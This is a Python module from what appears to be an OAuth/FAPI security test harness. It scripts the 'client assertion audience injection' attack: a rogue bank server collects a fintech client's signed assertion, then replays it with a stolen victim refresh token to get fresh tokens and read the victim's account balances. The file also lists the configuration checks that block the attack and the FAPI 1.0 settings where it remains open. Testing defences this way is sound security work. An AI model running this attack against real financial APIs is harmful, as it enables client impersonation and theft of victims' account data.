"""client-assertion-audience-injection: FinLens's assertion, harvested at EvilBank's PAR
endpoint, authenticates EvilBank as FinLens at the honest AS (A1a + A4).

attacks.md §3 C; draft-ietf-oauth-rfc7523bis (the "audience injection" it was written
for). EvilBank's metadata names its own PAR endpoint but the honest AS's token endpoint.
A FinLens that addresses every assertion to "the token endpoint" (RFC 7523 §3 allows it)
signs, for EvilBank's PAR endpoint, an assertion whose aud is the honest AS's token
endpoint. EvilBank presents it there with a victim refresh token read off the token leg.
FAPI2 §5.3.3.1: the client uses the issuer (a string) as aud, and §5.3.2.1 lets the AS
insist on it (client_assertion_aud_check, param issuer_only).
"""

from __future__ import annotations

from attacker import fixtures
from attacker import frontchannel as fc
from attacker import token_support as ts
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.inject import evil_received, link_evilbank
from attacker.premises import linked_victim


def run(ctx: AttackContext) -> None:
    fx = fixtures.ensure_running(ctx)
    since = fx.mark()
    victim = linked_victim(ctx)
    refresh_token = ts.captured_refresh_token(ctx)
    meta = ts.metadata(ctx)
    token_endpoint = str(meta["token_endpoint"])
    fx.list_evilbank()
    fx.evil_plan(mode="own", require_par=True, token_endpoint=token_endpoint)
    ctx.step("attacker", "EvilBank's metadata: its own PAR endpoint (required), the honest "
             f"AS's token endpoint {token_endpoint}")
    try:
        link_evilbank(ctx, fc.AttackerBrowser(ctx), follow=False)
        pushed = [r for r in evil_received(ctx, fx, since, "/par")
                  if r.form().get("client_assertion")]
    finally:
        fx.evil_plan()
    if not pushed:
        ctx.failed("FinLens pushed no client assertion to EvilBank (it did not use "
                   "private_key_jwt there)")
    form = pushed[-1].form()
    ctx.step("attacker", "EvilBank keeps the client assertion FinLens sent to its PAR endpoint")
    signer = ctx.dpop_signer() if ts.dpop_required(meta) else None
    response = ts.post_token(ctx, {
        "grant_type": "refresh_token", "refresh_token": refresh_token,
        "client_id": form.get("client_id") or "",
        "client_assertion_type": form.get("client_assertion_type") or "",
        "client_assertion": form["client_assertion"]}, signer=signer,
        what="EvilBank presents FinLens's assertion with the victim's refresh token at the "
             "honest token endpoint")
    tokens = ts.tokens_or_fail(ctx, response, "the honest AS refused the harvested assertion")
    balances = ts.read_balances(ctx, tokens, signer=signer)
    ctx.succeeded(f"authenticated as FinLens, refreshed {victim.username}'s grant and read "
                  f"{len(balances)} balances", balances)


ATTACK = Attack(
    id="client-assertion-audience-injection", attacker="A1a + A4", legs=("evil_as", "token"),
    title="Genuine TPP assertion harvested by a rogue AS",
    blocked_by=("tpp_assertion_aud_issuer", "client_assertion_aud_check"),
    victim="prior", needs={"client_auth": "private_key_jwt"},
    premise="Runs EvilBank, listed in FinLens's directory under FinLens's client_id; reads a "
            "victim refresh token on the token leg (A4); never holds FinLens's key.",
    goal="fresh tokens for the victim's grant, and the victim's balances", run=run,
    refs=("draft-ietf-oauth-rfc7523bis", "RFC 7523 §3", "FAPI2 §5.3.3.1", "FAPI2 §5.3.2.1"),
    not_alone={
        "tpp_assertion_aud_issuer": "FinLens then names EvilBank's issuer, but the legacy AS "
        "checks no assertion audience; it blocks together with client_assertion_aud_check "
        "(as in fapi2-security), which is what fires",
        "client_assertion_aud_check": "by default it also accepts the token endpoint URL, which "
        "is exactly the harvested aud; it blocks with its param issuer_only",
    },
    open_in={
        "fapi1-advanced": "FAPI 1.0 Advanced lets a client name the token endpoint URL as its "
        "assertion's aud (OIDC §9, which F1P2 §5.2.2 builds on) and does not ask for the "
        "issuer, so tpp_assertion_aud_issuer is off there: EvilBank harvests an assertion for "
        "the honest token endpoint, which client_assertion_aud_check accepts by default. FAPI "
        "2.0 (§5.3.2.1) closed this audience injection (measured)",
    },
)
